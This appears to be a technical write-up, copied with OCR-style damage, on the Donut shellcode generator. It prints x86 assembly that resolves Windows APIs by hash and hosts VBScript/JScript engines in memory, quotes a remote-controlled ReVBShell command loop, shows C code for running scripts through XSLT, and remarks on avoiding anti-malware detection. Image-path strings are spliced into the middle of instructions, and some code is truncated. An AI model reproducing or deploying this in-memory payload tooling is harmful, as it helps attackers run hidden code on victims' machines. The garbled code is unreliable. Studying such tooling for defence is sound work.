      mov    edi, [eax+PEB_LDR_DATA.InLoadOrderModuleList + LIST_ENTRY.Flink]
      jmp    get_dll
      mov    edi, [edi+LDR_DATA_TABLE_ENTRY.InLoadOrderLinks + LIST_ENTRY.Flink]
      mov    ebx, [edi+LDR_DATA_TABLE_ENTRY.DllBase]
      mov    eax, [ebx+IMAGE_DOS_HEADER.e_lfanew]
      mov    ecx, [ebx+eax+IMAGE_NT_HEADERS.OptionalHeader + \
                           IMAGE_OPTIONAL_HEADER32.DataDirectory + \
                           IMAGE_DIRECTORY_ENTRY_EXPORT * IMAGE_DATA_DIRECTORY_size + \
      jecxz  next_dll
      ; esi = offset IMAGE_EXPORT_DIRECTORY.NumberOfNames
      lea    esi, [ebx+ecx+IMAGE_EXPORT_DIRECTORY.NumberOfNames]
      xchg   eax, ecx
      jecxz  next_dll        ; skip if no names
      ; ebp = IMAGE_EXPORT_DIRECTORY.AddressOfFunctions
      add    eax, ebx        ; ebp = RVA2VA(eax, ebx)
      xchg   eax, ebp        ;
      ; edx = IMAGE_EXPORT_DIRECTORY.AddressOfNames
      add    eax, ebx        ; edx = RVA2VA(eax, ebx)
      xchg   eax, edx        ;
      ; esi = IMAGE_EXPORT_DIRECTORY.AddressOfNameOrdinals
      add    eax, ebx        ; esi = RVA2VA(eax, ebx)
      xchg   eax, esi
      mov    esi, [edx+ecx*4-4] ; esi = AddressOfNames[ecx-1]
      add    esi,ebx           ; esi = RVA2VA(esi, ebx)
      xor    eax, eax           ; eax = 0cdq                       ; h = 0
      add    edx, eax
      ror    edx, 8
      dec    eax
      jns    hash_name
      cmp    edx, [esp + _eax + pushad_t_size]   ; hashes match?
      loopne get_name              ; --ecx && edx != hash
      jne    next_dll              ; get next DLLmovzx  eax, word [esi+ecx*2] ; eax = AddressOfNameOrdinals[ecx]
      add    ebx, [ebp+eax*4]      ; ecx = base + AddressOfFunctions[eax]
      mov    [esp+_eax], ebx
      popad                        ; restore all
      jmp    eax
      ; ---
      db     "ole32", 0, 0, 0
      db     "CoInitializeEx", 0
co_init_len equ $-co_init
      db     "CoCreateInstance", 0
co_create_len equ $-co_create
      ; IID_IActiveScript
      ; IID_IActiveScriptParse32 +1
      dd     0xbb1a2ae1
      dw     0xa4f9, 0x11cf
      db     0x8f, 0x20, 0x00, 0x80, 0x5f, 0x2c, 0xd0, 0x64
  %ifdef VBS; CLSID_VBScript
      dd     0xB54F3741
      dw     0x5B07, 0x11cf
      db     0xA4, 0xB0, 0x00, 0xAA,0x00, 0x4A, 0x55, 0xE8
      ; CLSID_JScript
      dd     0xF414C260
      dw     0x6AC0, 0x11CF
      db     0xB6, 0xD1, 0x00, 0xAA, 0x00, 0xBB, 0xBB, 0x58
      mov    eax, E_NOTIMPL     ; return E_NOTIMPL
      retn   3*4
      pop    eax                ; return S_OK
      push   eax
      push   eax
      pop    eax                ; return S_OK
      push   eax
      push   eax
      xor    eax, eax           ; return S_OK
      retn   3*4
      jmp    _GetDocVersionString
      jmp    _Releasepop    ebp
      lea    esi, [ebp + (_ds_section - invoke_api)]
      ; LoadLibrary("ole32");
      push   esi                    ; "ole32", 0
      mov    eax, 0xFA183D4A        ; eax = hash("LoadLibraryA")
      call   ebp                    ; invoke_api(eax)
      xchg   ebx, eax               ; ebp = base of ole32
      lodsd                         ; skip "ole32"
      ; _CoInitializeEx = GetProcAddress(ole32, "CoInitializeEx");
      mov    eax, 0x4AAC90F7        ; eax = hash("GetProcAddress")
      push   eax                    ; save eax/hash
      push   esi                    ; esi = "CoInitializeEx"
      pushebx                    ; base of ole32
      call   ebp                    ; invoke_api(eax)

      ; 1. _CoInitializeEx(NULL, COINIT_MULTITHREADED);
      cdq                           ; edx = 0
      push   edx                    ; COINIT_MULTITHREADED
      push   edx                    ; NULL
      call   eax                    ; CoInitializeEx
      addesi, co_init_len       ; skip "CoInitializeEx", 0
      ; _CoCreateInstance = GetProcAddress(ole32, "CoCreateInstance");
      pop    eax                    ; eax = hash("GetProcAddress")
      push   esi                    ; "CoCreateInstance"
      push   ebx                    ; base of ole32
      call   ebp                    ; invoke_api

      add    esi, co_create_len     ; skip "CoCreateInstance", 0
      ; 2. _CoCreateInstance(
          ; &langId, 0, CLSCTX_INPROC_SERVER,
          ; &IID_IActiveScript, (void **)&engine);
      push   edi                    ; &engine
      scasd                         ; skip engine
      mov    ebx, edi               ; ebx = &parser
      push   edi                    ; &IID_IActiveScript
      push   0                      ;
      push   esi                    ; &CLSID_VBScript or &CLSID_JScript
      call   eax                    ; _CoCreateInstance
      ; 3. Query engine for script parser
      ; engine->lpVtbl->QueryInterface(;  engine, &IID_IActiveScriptParse,
      ;  (void **)&parser);
      push   edi                    ;&parser
      push   ebx                    ; &IID_IActiveScriptParse32
      inc    dword[ebx]             ; add 1 for IActiveScriptParse32
      mov    esi, [ebx-4]           ; esi = engine
      push   esi                    ; engine
      mov    eax, [esi]             ; eax = engine->lpVtbl
      call   dword[eax + IUnknownVtbl.QueryInterface]
      ; 4. Initialize parser
      ; parser->lpVtbl->InitNew(parser);
      mov    ebx, [edi]             ; ebx = parser
      push   ebx                    ; parser
      mov    eax, [ebx]             ; eax = parser->lpVtbl
      call   dword[eax + IActiveScriptParse32Vtbl.InitNew]
      ; 5. Initialize IActiveScriptSitelea    eax, [ebp + (_QueryInterface- invoke_api)]
      push   edi                    ; save pointer to IActiveScriptSiteVtbl
      stosd                         ; vft.QueryInterface      =(LPVOID)QueryInterface;
      add    eax, _AddRef  - _QueryInterface
      stosd                         ; vft.AddRef              = (LPVOID)AddRef;
      stosd                         ; vft.Release             = (LPVOID)Release;
      add    eax, _GetLCID - _Release
      stosd                         ; vft.GetLCID             = (LPVOID)GetLCID;
      stosd                         ; vft.GetItemInfo         = (LPVOID)GetItemInfo;
      stosd                         ; vft.GetDocVersionString = (LPVOID)GetDocVersionString;
      add    eax, _OnScriptTerminate - _GetDocVersionString
      stosd                         ; vft.OnScriptTerminate   = (LPVOID)OnScriptTerminate;
      add    eax, _OnStateChange - _OnScriptTerminate
      stosd                         ; vft.OnStateChange       = (LPVOID)OnStateChange;
      stosd                         ; vft.OnScriptError       = (LPVOID)OnScriptError;
      inc    eax
      inc    eaxstosd                         ; vft.OnEnterScript       = (LPVOID)OnEnterScript;
      stosd                         ; vft.OnLeaveScript       = (LPVOID)OnLeaveScript;
      pop    eax                    ; eax = &vft
      ; 6. Set script site
      ; engine->lpVtbl->SetScriptSite(
      ;   engine, (IActiveScriptSite *)&mas);
      push    edi                   ; &IMyActiveScriptSite
      stosd                         ; IActiveScriptSite.lpVtbl = &vft
      xor     eax, eax
      stosd                         ; IActiveScriptSiteWindow.lpVtbl = NULL
      push    esi                   ; engine
      mov     eax, [esi]
      call    dword[eax + IActiveScriptVtbl.SetScriptSite]

      ; 7. Parse our script
      ; parser->lpVtbl->ParseScriptText(
      ;     parser, cs, 0, 0, 0, 0, 0, 0, 0, 0);
      mov    edx, esp
      push   8
      pop    ecx
      push   eax                    ; 0
      loop   init_parse
      push   edx                    ; script
      push   ebx                    ; parser
      mov    eax, [ebx]
      call   dword[eax + IActiveScriptParse32Vtbl.ParseScriptText]
      ; 8. Run script
      ; engine->lpVtbl->SetScriptState(
      ;     engine, SCRIPTSTATE_CONNECTED);
      push   esi
      mov    eax, [esi]
      call   dword[eax + IActiveScriptVtbl.SetScriptState]
      ; 9. cleanup
      ; parser->lpVtbl->Release(parser);
      push   ebx
      mov    eax, [ebx]
      call   dword[eax + IUnknownVtbl.Release]
      ; engine->lpVtbl->Close(engine);
      push   esi                    ; engine
      push   esi                    ; engine
      lodsd                         ; eax = lpVtblxchg   eax, edi
      call   dword[edi + IActiveScriptVtbl.Close]
      ; engine->lpVtbl->Release(engine);
      call   dword[edi + IUnknownVtbl.Release]
      inc    eax                    ; eax = 4096 * 32
      shl    eax, 17
      add    esp, eax

Windows Script Host Objects

Two named objects (WSH and WScript) are added to the script namespace bywscript.exe/cscript.exe that do not require instantiating at runtime. The ‘WScript’ object is used primarily for console I/O, accessing arguments and the path of script on disk. It can also be used to terminate a script via the Quit method or poll operations via the Sleep method. The IActiveScript interface only provides basic scripting functionality, so if we want our host tosupport those objects, or indeed any custom objects, they must be implemented manually. Consider the following code taken from ReVBShell that expects to run inside WSH.

  While True
    ' receive command from remote HTTP server
    ' other code omitted
    Select Case strCommand
      Case "KILL"
        SendStatusUpdate strRawCommand, "Goodbye!"
        WScript.Quit 0
    End Select

When this was used for testing Donut shellcode, the script engine stopped running upon reaching the line “WScript.Quit 0” because it didn’t recognize the WScript object. “On Error Resume Next” was enabled, and so the script simply kept executing. Once the name of this object was added to the namespace via IActiveScript::AddNamedItem, a request for ITypeInfo andIUnknown interfaces was made via IActiveScriptSite::GetItemInfo. If we don’t provide an interface for the request, the parser calls IActiveScriptSite::OnScriptError with the message “Variable is undefined ‘WScript'” before terminating.

To enable support for ‘WScript’ requires a custom implementation of the WScript interface defined in type information found in wscript.exe/cscript.exe. First, add the name of the object to the scripting engine’s namespace using AddNamedItem. This makes any methods, properties and events part of this object visible to the script.

obj = SysAllocString(L"WScript");
engine->lpVtbl->AddNamedItem(engine, (LPCOLESTR)obj, SCRIPTITEM_ISVISIBLE);

Obtain the type information from wscript.exe or cscript.exe. IID_IHost is simply the class identifier retrieved from aforementioned EXE files. Below is a screenshot of OleWoo, but other TLB viewers may work just as well.

ITypeLib  lpTypeLib;
ITypeInfo lpTypeInfo;

LoadTypeLib(L"WScript.exe", &lpTypeLib);
lpTypeLib->lpVtbl->GetTypeInfoOfGuid(lpTypeLib, &IID_IHost, &lpTypeInfo);

Now, when the scripting engine first encounters the ‘WScript’ object and requests an IUnknown interface via IActiveScriptSite::GetItemInfo, Donut returns a pointer to a minimal implementation of the IHost interface.

After this, the IDispatch::Invoke method will be used to call the ‘Quit’ method requested by the script. At the moment, Donut only implements Quit and Sleep methods, but others can be supported if requested.

Extensible Stylesheet Language Transformations (XSLT)

XSL files can contain interpreted languages like JScript/VBScript. The following code found here is based on this example by TheWover.

void run_xml_script(const char *path) {
    IXMLDOMDocument *pDoc;
    IXMLDOMNode     *pNode;
    HRESULT         hr;PWCHAR          xml_str;
    VARIANT_BOOL    loaded;
    BSTR            res;
    xml_str = read_script(path);
    if(xml_str == NULL) return;
    // 1. Initialize COM
    hr = CoInitialize(NULL);
    if(hr == S_OK) {
      // 2. Instantiate XMLDOMDocument object
      hr = CoCreateInstance(
      if(hr == S_OK) {
        // 3. load XML file
        hr = pDoc->lpVtbl->loadXML(pDoc, xml_str, &loaded);
        if(hr == S_OK) {
          // 4. create node interface
          hr = pDoc->lpVtbl->QueryInterface(
            pDoc, &IID_IXMLDOMNode, (void **)&pNode);
          if(hr == S_OK) {
            // 5. execute script
            hr = pDoc->lpVtbl->transformNode(pDoc, pNode, &res);

PC-Relative Addressing in C

The linker makes an assumption about where a PE file will be loaded in memory. Most EXE files request an image base address of 0x00400000 for 32-bit or 0x0000000140000000 for 64-bit. If the PE loader can’t map at the requested address, it uses relocation information to fix position-dependent code and data. ARM has support for PC-relative addressing via the ADR, ADRP and LDR opcodes, butpoor old x86 lacks a similar instruction. x64 does support RIP-relative addressing, but there’s no guarantee a compiler will use it even if we tell it to (-fPIC and -fPIE for GCC). Because we’re using C for the shellcode, we need to manually calculate the address of a function relative to where the shellcode resides in memory. We could apply relocations in the same way a PE loader does, but self-modifying code can trigger some anti-malware programs. Instead, the program counter (EIP on x86 or RIP on x64) is read using some assembly and this is used to calculate the virtual address of 